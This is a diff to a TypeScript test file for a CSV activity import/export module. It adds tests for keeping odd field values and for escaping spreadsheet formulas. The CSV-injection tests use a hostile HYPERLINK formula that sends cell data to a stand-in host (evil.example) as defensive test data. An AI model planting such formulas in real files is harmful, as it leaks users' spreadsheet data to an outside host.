@@ -23,10 +23,12 @@ import {
   splitTags,
   type CsvFile,
   type ImportContext,
+  unescapeFormula,
 } from "./activity-csv";
 import { selectiveUpdate } from "./activity-form";
 import type { GooglePhotoColumn, StoredActivity } from "./activity-record";
 import { DEFAULT_ACTIVITY_IMAGE } from "./photos";
+import { titleSlug } from "./slug";
 
 const HEADER = "title,excerpt,latitude,longitude,category,cityId";
 
@@ -283,6 +285,26 @@ describe("rows", () => {
       { line: 3, reason: "Choose tags from the list" },
     ]);
   });
+
+  it("keeps a row whose phone, website, Google Maps URL, address or state looks wrong, as given (Data Quality flags it)", () => {
+    const plan = planImport(
+      file(
+        `${HEADER},phoneNumber,website,googleMapsUrl,address,country,state\n` +
+          `Odd One,b,1,2,Parks,nashville,123,not a site,maps please,??,Canada,Tennessee`,
+      ),
+      ALL,
+      context(),
+    );
+    expect(plan.skipped).toEqual([]);
+    expect(plan.creates[0]!.values).toMatchObject({
+      phoneNumber: "123",
+      website: "not a site",
+      googleMapsUrl: "maps please",
+      address: "??",
+      country: "Canada",
+      state: "Tennessee",
+    });
+  });
 });
 
 describe("the addresses a file's rows take", () => {
@@ -308,10 +330,15 @@ describe("selective update", () => {
     });
   });
 
-  it("answers for a state that no longer fits a changed country", () => {
-    const result = selectiveUpdate(STORED, { country: "Canada" }, ["country"], choices);
+  it("answers for a state a changed country requires", () => {
+    const result = selectiveUpdate({ ...STORED, state: "" }, { country: "France" }, ["country"], choices);
     expect(result.ok).toBe(false);
     expect(!result.ok && Object.keys(result.errors)).toContain("state");
+    // A state off the new country's list is kept as given.
+    expect(selectiveUpdate(STORED, { country: "Canada" }, ["country"], choices)).toEqual({
+      ok: true,
+      values: { country: "Canada" },
+    });
   });
 
   it("does not let a stored value today's rules refuse block another column", () => {
@@ -330,7 +357,63 @@ describe("export", () => {
     const text = csvText([row]);
     expect(text.startsWith('7,"Say ""hi"", then\ngo",')).toBe(true);
     expect(text.endsWith("\r\n")).toBe(true);
-    expect(Papa.parse<string[]>(text.trimEnd(), { delimiter: "," }).data[0]).toEqual(row);
+    expect(Papa.parse<string[]>(text.trimEnd(), { delimiter: "," }).data[0]!.map(unescapeFormula)).toEqual(row);
     expect(exportFileName(new Date("2026-11-23T15:00:00Z"))).toBe("activities-2026-11-23.csv");
+  });
+});
+
+describe("formulas (CSV injection)", () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+    "-5 things",
+    "+1 then more",
+    "@SUM(A1:A9)",
+    "'=already quoted",
+    "''-twice",
+    "'Round Midnight",
+    "Plain title",
+  ];
+
+  it("writes a cell a spreadsheet would run with a leading ', and plain numbers as they are", () => {
+    const row = csvRow({ ...STORED, id: 7, title: hostile[0]!, excerpt: "-5 things", phoneNumber: "+1 615-889-3060" });
+    const cells = Papa.parse<string[]>(csvText([row]).trimEnd()).data[0]!;
+    expect(cells[CSV_COLUMNS.indexOf("title")]).toBe(`'${hostile[0]}`);
+    expect(cells[CSV_COLUMNS.indexOf("excerpt")]).toBe("'-5 things");
+    expect(cells[CSV_COLUMNS.indexOf("phoneNumber")]).toBe("'+1 615-889-3060");
+    expect(cells[CSV_COLUMNS.indexOf("longitude")]).toBe("-86.78");
+    expect(csvText([["-86.78", "+5", ".5", "-", "=", "'Round Midnight"]])).toBe(
+      `-86.78,+5,.5,"'-","'=",'Round Midnight\r\n`,
+    );
+  });
+
+  it("reads back exactly what was exported: export then import changes nothing", () => {
+    const stored = new Map(
+      hostile.map((title, i) => [
+        i + 1,
+        { ...STORED, slug: titleSlug(title), title, excerpt: title, longitude: -86.78 },
+      ]),
+    );
+    const exported = CSV_EXPORT_START + csvText([...stored].map(([id, a]) => csvRow({ ...a, id })));
+    const parsed = parseCsv(exported);
+    expect(parsed.ok).toBe(true);
+    const plan = planImport(parsed.ok ? parsed.file : { headers: [], rows: [] }, ALL, {
+      ...context(),
+      stored,
+      taken: new Map([...stored].map(([id, a]) => [slugKey(a.cityId, a.slug), id])),
+    });
+    expect(plan.skipped).toEqual([]);
+    expect(plan.updates.map((u) => [u.values.title, u.values.excerpt, u.values.longitude])).toEqual(
+      hostile.map((title) => [title, title, -86.78]),
+    );
+    for (const u of plan.updates) expect(u.values.phoneNumber).toBe("+1 615-889-3060");
+  });
+
+  it("removes only the one ' the export adds", () => {
+    expect(unescapeFormula("'=1+1")).toBe("=1+1");
+    expect(unescapeFormula("''=1+1")).toBe("'=1+1");
+    expect(unescapeFormula("'-86.78")).toBe("-86.78");
+    expect(unescapeFormula("'Round Midnight")).toBe("'Round Midnight");
+    expect(unescapeFormula("'")).toBe("'");
+    expect(unescapeFormula("'5")).toBe("'5");
   });
 });
